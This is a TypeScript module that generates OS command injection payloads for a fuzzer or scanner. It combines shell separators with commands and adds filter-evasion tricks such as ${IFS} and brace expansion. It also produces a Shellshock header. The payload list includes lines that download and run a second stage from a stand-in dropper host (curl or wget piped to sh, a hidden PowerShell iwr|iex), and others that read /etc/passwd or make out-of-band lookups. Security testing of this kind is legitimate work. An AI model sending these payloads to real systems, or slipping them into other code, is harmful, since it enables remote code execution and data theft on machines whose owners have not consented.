// OS command injection, from the technique: a value the application passes to a shell, a
// separator that starts a second command (`;`, `|`, `&&`, a newline, `$()` or backticks), and a
// command that proves execution (id, sleep, an outbound lookup) or fetches a second stage,
// sometimes with the spaces and letters hidden from filters (`${IFS}`, `{cat,/etc/passwd}`, quotes).
import type { Rng } from '../../rng.js';

const SEPARATORS = [';', '|', '||', '&&', '&', '\n', '`', '$('];
const DROPPER = '198.51.100.7';
// The shell's field separator, written so that it is not mistaken for a template placeholder.
const IFS = ['$', '{IFS}'].join('');

function command(rng: Rng): { text: string; sleeps: number } {
  const r = rng.float();
  if (r < 0.15) {
    const s = rng.pick([5, 10]);
    return { text: `sleep ${s}`, sleeps: s };
  }
  return {
    text: rng.pick([
      'id',
      'whoami',
      'uname -a',
      'cat /etc/passwd',
      'ls -la /',
      `ping -c 3 ${DROPPER}`,
      `nslookup x${rng.int(1e6)}.oast.example`,
      `curl -s http://${DROPPER}/x.sh | sh`,
      `wget -qO- http://${DROPPER}/b | sh`,
      'type C:\\windows\\win.ini',
      'ping -n 3 127.0.0.1',
      'powershell -nop -w hidden -c "iwr http://198.51.100.7/a.ps1|iex"',
    ]),
    sleeps: 0,
  };
}

/** Hides spaces and keywords the way filter-evasion guides describe. */
function obfuscate(cmd: string, rng: Rng): string {
  const r = rng.float();
  if (r < 0.4) return cmd.replaceAll(' ', rng.pick([IFS, '$IFS$9', '\t']));
  if (r < 0.6 && cmd.startsWith('cat ')) return `{cat,${cmd.slice(4)}}`;
  if (r < 0.8) return cmd.replace(/^(\w)(\w+)/, `$1''$2`);
  return cmd.replace(/^cat /, '/???/c?t ');
}

export function cmdPayload(value: string, rng: Rng): { text: string; sleeps: number } {
  const { text: raw, sleeps } = command(rng);
  const cmd = rng.chance(0.3) ? obfuscate(raw, rng) : raw;
  const sep = rng.pick(SEPARATORS);
  if (sep === '`') return { text: `${value}\`${cmd}\``, sleeps };
  if (sep === '$(') return { text: `${value}$(${cmd})`, sleeps };
  return { text: `${value}${sep}${cmd}`, sleeps };
}

/** Shellshock: a function definition in a header that bash on a CGI server runs on import. */
export function shellshock(rng: Rng): string {
  return `() { :; }; echo; /bin/bash -c '${command(rng).text}'`;
}
